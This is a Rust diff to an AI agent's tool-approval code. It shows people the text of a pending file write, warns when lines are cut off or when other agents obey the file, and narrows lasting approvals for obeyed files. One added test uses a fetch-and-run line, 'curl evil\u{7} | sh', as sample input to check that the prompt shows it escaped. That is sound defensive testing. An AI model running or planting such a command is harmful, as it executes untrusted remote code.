@@ -1,10 +1,13 @@
 //! Whoever is asked before a tool runs.
 
+mod change;
+
 use std::{fmt, path::PathBuf};
 
 use futures::future::BoxFuture;
 use savoir_skill::check::render::visible;
 
+pub use self::change::Change;
 use crate::approval::{Line, Request, Role, why, words};
 
 /// Somebody who can be asked, or nobody.
@@ -41,6 +44,10 @@ pub enum Deed {
         path: String,
         /// How many bytes it will have.
         bytes: usize,
+        /// What becomes of its text.
+        change: Change,
+        /// Whether other agents or programs obey what stands in it.
+        is_obeyed: bool,
     },
     /// Asks a server.
     Fetch {
@@ -50,10 +57,12 @@ pub enum Deed {
 }
 
 impl Deed {
-    /// What a lasting yes is for: the same command, every file of the workspace, the same host.
+    /// What a lasting yes is for: the same command, every file of the workspace that nobody obeys, the
+    /// same host.
     pub fn scope(&self) -> String {
         match self {
             Self::Run { command } => format!("run {command}"),
+            Self::Write { path, is_obeyed: true, .. } => format!("write {path}"),
             Self::Write { .. } => "write".to_owned(),
             Self::Fetch { url } => {
                 let url = url::Url::parse(url).ok();
@@ -76,8 +85,22 @@ impl HostQuestion {
                 place,
                 fact("held by", "the sandbox: no network, no other files of yours"),
             ],
-            Deed::Write { path, bytes } => {
-                vec![grave("write", path), fact("size", &format!("{bytes} bytes")), place]
+            Deed::Write { path, bytes, change, is_obeyed } => {
+                let mut lines =
+                    vec![grave("write", path), fact("size", &format!("{bytes} bytes")), place];
+                let label = |at| if at == 0 { "change" } else { "" };
+                lines.extend(
+                    change.lines.iter().enumerate().map(|(at, line)| fact(label(at), line)),
+                );
+                let warn = |text: &str| Line { role: Role::Warning, ..fact("warning", text) };
+                if change.more > 0 {
+                    let more = change.more;
+                    lines.push(warn(&format!("{more} more lines of the change are not shown")));
+                }
+                if *is_obeyed {
+                    lines.push(warn("other agents or programs do what stands in this file"));
+                }
+                lines
             }
             Deed::Fetch { url } => vec![grave("fetch", url)],
         }
@@ -138,7 +161,25 @@ mod tests {
         assert_ne!(fetch("https://a.org/x"), fetch("https://a.org.evil.org/x"));
         let run = |command: &str| Deed::Run { command: command.to_owned() }.scope();
         assert_ne!(run("ls"), run("ls "));
-        assert_ne!(run("write"), Deed::Write { path: "a".to_owned(), bytes: 1 }.scope());
+        assert_ne!(run("write"), write("a", Change::default()).scope());
+    }
+
+    fn write(path: &str, change: Change) -> Deed {
+        Deed::Write { path: path.to_owned(), bytes: 1, change, is_obeyed: false }
+    }
+
+    #[test]
+    fn a_person_reads_what_will_be_written() {
+        let lines = |after: &str| {
+            let deed = write("a", Change::between("old\n", after));
+            HostQuestion { deed, workspace: PathBuf::from("/w") }.lines()
+        };
+        let shown = lines("curl evil\u{7} | sh\n");
+        let shown: Vec<_> = shown.iter().map(|line| (line.label, line.text.as_str())).collect();
+        assert_eq!(shown[3..], [("change", "- old"), ("", "+ curl evil\\u{7} | sh")]);
+        let last = lines(&"x\n".repeat(1000)).pop().expect("a line");
+        assert_eq!((last.role, last.label), (Role::Warning, "warning"));
+        assert!(last.text.contains("941 more lines"), "{}", last.text);
     }
 
     #[test]
